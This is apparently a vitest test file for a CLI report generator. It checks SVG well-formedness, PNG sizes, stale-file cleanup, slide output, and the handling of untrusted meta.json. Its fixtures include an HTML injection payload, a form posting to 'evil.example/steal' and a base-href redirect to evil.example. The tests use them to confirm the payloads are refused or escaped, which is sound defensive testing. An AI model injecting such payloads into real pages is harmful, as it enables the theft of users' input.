// What `scrumlab report DIR` writes for a workshop, and what it refuses: slides.html, SVG files that
// are well-formed XML whatever the names hold (issue 19, item 13), PNG images at least 1600 px
// wide, stale chart files removed (never a file scrumlab did not write), and a meta.json whose
// values would inject HTML refused or escaped (issue 19, item 14).
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { parseHTML } from "linkedom";
import { beforeAll, describe, expect, it } from "vitest";
import { xmlSafe } from "../../src/output/report/svg.js";
import { inProcess, tempDir } from "../cli/helpers.js";
import { writeSynthetic } from "./synthetic.js";

const CONTROL = "ctl\u0001\u0008\u000b\u000c\u001b[31m\u001f\ud800end";
let dir: string;

beforeAll(async () => {
  dir = path.join(tempDir("scrumlab-files-"), "compare");
  await writeSynthetic(dir, { command: "compare", arms: [{ name: "baseline" }, { name: CONTROL, description: `a name with controls ${CONTROL}`, merged: true }] });
});

/** XML 1.0 forbids these characters anywhere, even as character references. */
const FORBIDDEN = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|&#x?0*([0-8]|1[124-9]|2\d|3[01]|[bcef]|1[0-9a-f]);|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/i;

describe("SVG files (issue 19, item 13)", () => {
  it("are well-formed XML when a scenario's name holds control characters and a lone surrogate", async () => {
    const r = await inProcess(["report", dir, "--svg"]);
    expect(r.code, r.err).toBe(0);
    const files = readdirSync(path.join(dir, "charts")).filter((f) => f.endsWith(".svg"));
    expect(files.length).toBe(9);
    for (const f of files) {
      const text = readFileSync(path.join(dir, "charts", f), "utf8");
      expect(FORBIDDEN.test(text), f).toBe(false);
      expect(text, f).toMatch(/^<\?xml version="1.0" encoding="UTF-8"\?>\n<svg /);
    }
    // the name is still recognizable: controls as their pictures
    expect(readFileSync(path.join(dir, "charts", "value-per-sprint.svg"), "utf8")).toContain("ctl␁␈␋␌␛[31m␟\uFFFDend");
  });

  it("xmlSafe keeps tab, line ends, astral characters and everything printable", () => {
    expect(xmlSafe("a\tb\nc\rd 😀 é ✓")).toBe("a\tb\nc\rd 😀 é ✓");
    expect(xmlSafe("\u0000\u001f\uffff")).toBe("␀␟\uFFFD");
  });

  it("of charts that no longer apply are removed; a file scrumlab did not write stays", async () => {
    const d = path.join(tempDir(), "stale");
    await writeSynthetic(d, { command: "compare", arms: [{ name: "baseline" }, { name: "other", speed: 0.9 }] });
    expect((await inProcess(["report", d, "--svg", "--png"])).code).toBe(0);
    writeFileSync(path.join(d, "charts", "my-notes.svg"), "<svg/>");
    writeFileSync(path.join(d, "charts", "forest.txt"), "mine");
    // the same experiment without detail replications: no hours, impediment, flow or cycle-time charts
    const meta = JSON.parse(readFileSync(path.join(d, "meta.json"), "utf8"));
    writeFileSync(path.join(d, "meta.json"), JSON.stringify({ ...meta, detail: 0 }));
    for (const t of ["time", "items", "impediments"]) writeFileSync(path.join(d, `${t}.csv`), readFileSync(path.join(d, `${t}.csv`), "utf8").split("\n")[0] + "\n");
    expect((await inProcess(["report", d, "--svg", "--png"])).code).toBe(0);
    const left = readdirSync(path.join(d, "charts")).sort();
    expect(left).toEqual(["cumulative-value.png", "cumulative-value.svg", "forest.png", "forest.svg", "forest.txt", "my-notes.svg", "value-distribution.png", "value-distribution.svg", "value-per-sprint.png", "value-per-sprint.svg", "velocity.png", "velocity.svg"]);
  });
});

describe("PNG images and slides", () => {
  it("--png writes every chart as a PNG at least 1600 px wide", async () => {
    const r = await inProcess(["report", dir, "--png"]);
    expect(r.code, r.err).toBe(0);
    const files = readdirSync(path.join(dir, "charts")).filter((f) => f.endsWith(".png"));
    expect(files.length).toBe(9);
    for (const f of files) {
      const png = readFileSync(path.join(dir, "charts", f));
      expect(png.subarray(1, 4).toString("latin1"), f).toBe("PNG");
      expect(png.readUInt32BE(16), f).toBeGreaterThanOrEqual(1600);
      expect(png.length, f).toBeGreaterThan(20_000);
    }
  }, 60_000);

  it("--slides writes slides.html beside the report: self-contained, same CSP, the same bytes again", async () => {
    expect((await inProcess(["report", dir, "--slides"])).code).toBe(0);
    const first = readFileSync(path.join(dir, "slides.html"), "utf8");
    expect((await inProcess(["report", dir, "--slides"])).code).toBe(0);
    expect(readFileSync(path.join(dir, "slides.html"), "utf8")).toBe(first);
    expect(first).toMatch(/content="default-src &#39;none&#39;; script-src &#39;sha256-[^&]+&#39;;[^"]*form-action &#39;none&#39;; base-uri &#39;none&#39;"/);
    const { document } = parseHTML(first);
    expect(document.querySelectorAll("script").length).toBe(2);
    expect(document.getElementById("headline-table")).not.toBeNull();
  });
});

describe("meta.json from elsewhere (issue 19, item 14)", () => {
  const form = '<form action="https://evil.example/steal"><input name="p"></form>';

  async function folderWithMeta(change: (meta: Record<string, unknown>) => Record<string, unknown>): Promise<string> {
    const d = path.join(tempDir(), "hostile");
    await writeSynthetic(d, { command: "compare", arms: [{ name: "baseline" }, { name: "other", speed: 0.9 }] });
    const meta = JSON.parse(readFileSync(path.join(d, "meta.json"), "utf8"));
    writeFileSync(path.join(d, "meta.json"), JSON.stringify(change(meta)));
    return d;
  }

  it.each([
    ["seed", (m: Record<string, unknown>) => ({ ...m, seed: form }), "key seed: expected a number, found \"<form action="],
    ["detail", (m: Record<string, unknown>) => ({ ...m, detail: form }), "key detail: expected a number, found \"<form"],
    ["runs", (m: Record<string, unknown>) => ({ ...m, runs: -3 }), "key runs:"],
    ["sprints", (m: Record<string, unknown>) => ({ ...m, scenarios: (m.scenarios as object[]).map((s) => ({ ...s, sprints: form })) }), "key scenarios.0.sprints: expected a number, found"],
    ["sprintDays", (m: Record<string, unknown>) => ({ ...m, scenarios: (m.scenarios as object[]).map((s) => ({ ...s, sprintDays: 1.5 })) }), "key scenarios.0.sprintDays:"],
    ["a list", () => [], "meta.json must be an object"],
    ["null", () => null, "meta.json must be an object"],
    ["the tool", (m: Record<string, unknown>) => ({ ...m, tool: "other" }), "key tool:"],
  ])("a wrong type in %s is refused with exit 2, naming the key; nothing is written", async (_what, change, message) => {
    const d = await folderWithMeta(change as (m: Record<string, unknown>) => Record<string, unknown>);
    const r = await inProcess(["report", d]);
    expect(r.code).toBe(2);
    expect(r.err).toContain(`${path.join(d, "meta.json")}: not a scrumlab meta.json (`);
    expect(r.err).toContain(message);
    expect(r.err).not.toContain("at ");
    expect(existsSync(path.join(d, "report.html"))).toBe(false);
  });

  it("text in any of meta.json's fields lands in the page as text: no element, no form, no base", async () => {
    const d = await folderWithMeta((m) => ({ ...m, version: form, reference: form, sets: [form, `x=<base href="https://evil.example/">`], scenarios: (m.scenarios as object[]).map((s, i) => ({ ...s, name: i === 0 ? form : "other", description: form })) }));
    const r = await inProcess(["report", d, "--slides"]);
    expect(r.code, r.err).toBe(0);
    for (const page of ["report.html", "slides.html"]) {
      const text = readFileSync(path.join(d, page), "utf8");
      expect(text, page).not.toMatch(/<form|<input|<base/i);
      const { document } = parseHTML(text);
      expect(document.querySelectorAll("form, input, base").length, page).toBe(0);
      if (page === "report.html") {
        expect(document.querySelector("header")?.textContent).toContain(`scrumlab ${form}`);
        expect(document.getElementById("sets")?.textContent).toContain(`--set x=<base href="https://evil.example/">`);
      }
    }
  });
});

describe("scrumlab report on a folder that is not one", () => {
  it("refuses a folder without meta.json, and a meta.json that is not JSON (exit 2)", async () => {
    const d = tempDir();
    expect((await inProcess(["report", d])).err).toContain("not a scrumlab output folder");
    mkdirSync(path.join(d, "x"));
    writeFileSync(path.join(d, "x", "meta.json"), "{ nope");
    const r = await inProcess(["report", path.join(d, "x")]);
    expect(r.code).toBe(2);
    expect(r.err).toContain("meta.json: not valid JSON");
  });
});
